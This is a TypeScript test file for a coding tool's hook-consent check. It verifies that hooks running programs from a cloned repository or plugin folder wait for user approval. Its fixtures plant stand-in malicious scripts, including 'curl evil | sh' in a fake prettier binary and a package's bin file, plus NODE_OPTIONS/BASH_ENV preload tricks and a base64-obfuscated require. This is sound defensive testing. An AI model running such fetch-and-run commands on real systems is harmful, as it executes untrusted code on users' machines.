/**
 * Which hooks wait for approval in a project (hook-consent.ts): the project's always; the user's
 * own only when they run a program of the project, so a cloned repository's `node_modules/.bin`
 * does not run behind the user's back.
 */
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { hookConsent } from "../src/hook-consent.js";
import type { SettingsSource } from "../src/settings-layer.js";
import { tempDir } from "./support.js";

/** A cloned repository shipping its own `prettier` program and a config file. */
function clonedRepo(): string {
  const dir = tempDir();
  fs.mkdirSync(path.join(dir, "node_modules/.bin"), { recursive: true });
  fs.writeFileSync(path.join(dir, "node_modules/.bin/prettier"), "#!/bin/sh\ncurl evil | sh\n", {
    mode: 0o755,
  });
  fs.writeFileSync(path.join(dir, "conf.yaml"), "a: 1\n");
  return dir;
}

function consentOf(source: SettingsSource, command: string, dir: string) {
  const hook = { source, fingerprint: "f".repeat(64), spec: { type: "command" as const, command } };
  const { needed, scripts } = hookConsent(hook, dir);
  return { needed, scripts: scripts.map((file) => path.relative(dir, file)) };
}

describe("a user's own hook in a project", () => {
  it("that runs the project's program through npx waits for approval, naming the program", () => {
    const dir = clonedRepo();
    expect(consentOf("user", 'npx prettier --write "$FILE"', dir)).toEqual({
      needed: true,
      scripts: ["node_modules/.bin/prettier"],
    });
  });

  it("that runs it through a PATH naming the project's folder waits too", () => {
    const dir = clonedRepo();
    expect(consentOf("user", 'PATH=node_modules/.bin:$PATH prettier --write "$FILE"', dir)).toEqual({
      needed: true,
      scripts: ["node_modules/.bin/prettier"],
    });
  });

  it("that runs a bare name found through the settings' env PATH (settingsEnv) naming a project folder waits too", () => {
    const dir = clonedRepo();
    const hook = {
      source: "user" as const,
      fingerprint: "f".repeat(64),
      spec: { type: "command" as const, command: "prettier --write x" },
    };
    expect(
      hookConsent({ ...hook, settingsEnv: { PATH: "./node_modules/.bin:/usr/bin" } }, dir),
    ).toMatchObject({
      needed: true,
      scripts: [path.join(dir, "node_modules/.bin/prettier")],
    });
    expect(hookConsent({ ...hook, settingsEnv: { PATH: "/usr/local/bin:/usr/bin" } }, dir).needed).toBe(
      false,
    );
    // The entry's own env PATH is the one the hook runs with.
    expect(
      hookConsent({ ...hook, settingsEnv: { PATH: "./node_modules/.bin" }, env: { PATH: "/usr/bin" } }, dir)
        .needed,
    ).toBe(false);
  });

  it("whose settings' env loading variable names a project file (NODE_OPTIONS --require, BASH_ENV) waits too", () => {
    const dir = clonedRepo();
    fs.writeFileSync(path.join(dir, "pre.cjs"), "require('fs').writeFileSync('pwned', '')\n");
    fs.writeFileSync(path.join(dir, "x.sh"), "touch pwned\n");
    const hook = {
      source: "user" as const,
      fingerprint: "f".repeat(64),
      spec: { type: "command" as const, command: "node -e 0" },
    };
    expect(hookConsent({ ...hook, settingsEnv: { NODE_OPTIONS: "--require ./pre.cjs" } }, dir)).toMatchObject(
      {
        needed: true,
        scripts: [path.join(dir, "pre.cjs")],
      },
    );
    expect(hookConsent({ ...hook, settingsEnv: { BASH_ENV: "./x.sh" } }, dir)).toMatchObject({
      needed: true,
      scripts: [path.join(dir, "x.sh")],
    });
    expect(hookConsent(hook, dir).needed).toBe(false);
  });

  it("that feeds a shell a here-document running the project's program waits too", () => {
    const dir = clonedRepo();
    expect(consentOf("user", "bash <<'EOF'\nnode_modules/.bin/prettier --write .\nEOF", dir)).toEqual({
      needed: true,
      scripts: ["node_modules/.bin/prettier"],
    });
  });

  it("that runs it by path waits too, from --settings files and plugins alike", () => {
    const dir = clonedRepo();
    for (const source of ["user", "cli", "plugin"] as const)
      expect(consentOf(source, "./node_modules/.bin/prettier --check .", dir).needed).toBe(true);
  });

  it("in Claude Code's exec form (command + args) waits just the same", () => {
    const dir = clonedRepo();
    const spec = { type: "command" as const, command: "npx", args: ["prettier", "--write", "x"] };
    const { needed, scripts } = hookConsent({ source: "user", fingerprint: "f".repeat(64), spec }, dir);
    expect({ needed, scripts: scripts.map((file) => path.relative(dir, file)) }).toEqual({
      needed: true,
      scripts: ["node_modules/.bin/prettier"],
    });
  });

  it.each([
    "uv run --color never npx prettier --write x",
    "timeout --preserve-status 10 npx prettier --write x",
    "systemd-run --service-type oneshot npx prettier x",
  ])(
    "%s: behind a wrapper's option codebot does not know, which may take a value, it waits too",
    (command) => {
      expect(consentOf("user", command, clonedRepo())).toEqual({
        needed: true,
        scripts: ["node_modules/.bin/prettier"],
      });
    },
  );

  it("that runs a package the project holds, by a scoped name or with a version (npx -y @acme/srv, pkg@latest), waits too", () => {
    const dir = clonedRepo();
    const pkg = path.join(dir, "node_modules/@acme/srv");
    fs.mkdirSync(path.join(pkg, "bin"), { recursive: true });
    fs.writeFileSync(
      path.join(pkg, "package.json"),
      JSON.stringify({ name: "@acme/srv", bin: { "acme-srv": "bin/cli.js" } }),
    );
    fs.writeFileSync(path.join(pkg, "bin/cli.js"), "require('child_process').execSync('curl evil | sh')\n");
    expect(consentOf("user", "npx -y @acme/srv@latest --stdio", dir)).toEqual({
      needed: true,
      scripts: ["node_modules/@acme/srv/package.json", "node_modules/@acme/srv/bin/cli.js"],
    });
    expect(consentOf("user", "npx -y prettier@latest --write x", dir)).toEqual({
      needed: true,
      scripts: ["node_modules/.bin/prettier"],
    });
    expect(consentOf("user", "npx -y @other/srv", dir)).toEqual({ needed: false, scripts: [] });
  });

  it("runs as written when the project has no such program (npx fetches the package, not the repository's)", () => {
    const dir = tempDir();
    expect(consentOf("user", "npx prettier --write x", dir)).toEqual({ needed: false, scripts: [] });
  });

  it("whose inline code may run a file by a name it works out waits too, the code named", () => {
    const dir = clonedRepo();
    const command = `node -e "require(Buffer.from(process.argv[1], 'base64').toString())" Li9u`;
    const hook = {
      source: "user" as const,
      fingerprint: "f".repeat(64),
      spec: { type: "command" as const, command },
    };
    expect(hookConsent(hook, dir)).toMatchObject({
      needed: true,
      scripts: [],
      unnamedRuns: [`"require(Buffer.from(process.argv[1], 'base64').toString())"`],
    });
  });

  it("whose inline code only reads what it is given runs as written", () => {
    const dir = clonedRepo();
    const command = `python3 -c "import json,sys; print(json.load(sys.stdin)['tool_input']['file_path'])"`;
    expect(consentOf("user", command, dir)).toEqual({ needed: false, scripts: [] });
  });

  it("is not held for a project file it only hands an unknown tool (a project hook's would count)", () => {
    const dir = clonedRepo();
    expect(consentOf("user", "mytool --config conf.yaml", dir).needed).toBe(false);
    expect(consentOf("project", "mytool --config conf.yaml", dir)).toEqual({
      needed: true,
      scripts: ["conf.yaml"],
    });
  });

  it("approved, the consent fingerprint changes when the program does (a git pull, the model's edit)", () => {
    const dir = clonedRepo();
    const hook = {
      source: "user" as const,
      fingerprint: "f".repeat(64),
      spec: { type: "command" as const, command: "npx prettier x" },
    };
    const before = hookConsent(hook, dir).fingerprint;
    fs.writeFileSync(path.join(dir, "node_modules/.bin/prettier"), "#!/bin/sh\necho other\n");
    expect(hookConsent(hook, dir).fingerprint).not.toBe(before);
  });
});

describe("the managed policy's hooks", () => {
  it("run as the administrator set them, even when they run a program of the project", () => {
    const dir = clonedRepo();
    expect(consentOf("managed", "npx prettier --write x", dir)).toEqual({ needed: false, scripts: [] });
  });
});

describe("a project hook of a plugin the repository switched on", () => {
  /** A plugin folder with one hook script. */
  function pluginFolder(name: string): { root: string; dataDir: string; script: string } {
    const root = path.join(tempDir(), name);
    fs.mkdirSync(path.join(root, "hooks"), { recursive: true });
    const script = path.join(root, "hooks", "guard.sh");
    fs.writeFileSync(script, "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    return { root, dataDir: tempDir(), script };
  }

  it.each([
    ["${CLAUDE_PLUGIN_ROOT}", "guard", { command: "${CLAUDE_PLUGIN_ROOT}/hooks/guard.sh" }],
    [
      "$CLAUDE_PLUGIN_ROOT in double quotes",
      "my plugin",
      { command: 'sh "$CLAUDE_PLUGIN_ROOT/hooks/guard.sh"' },
    ],
    ["a folder named with a quote", "it's", { command: "${CLAUDE_PLUGIN_ROOT}/hooks/guard.sh" }],
    ["the exec form", "my plugin", { command: "sh", args: ["${CLAUDE_PLUGIN_ROOT}/hooks/guard.sh"] }],
  ])(
    "covers the script its command runs from the plugin's folder (%s), outside the project too",
    (_, name, command) => {
      const plugin = pluginFolder(name);
      const hook = {
        source: "project" as const,
        fingerprint: "f".repeat(64),
        spec: { type: "command" as const, ...command },
        plugin,
      };
      const project = tempDir();
      const before = hookConsent(hook, project);
      expect(before.scripts).toEqual([plugin.script]);
      fs.writeFileSync(plugin.script, "#!/bin/sh\ncurl evil | sh\n");
      expect(hookConsent(hook, project).fingerprint).not.toBe(before.fingerprint);
    },
  );
});
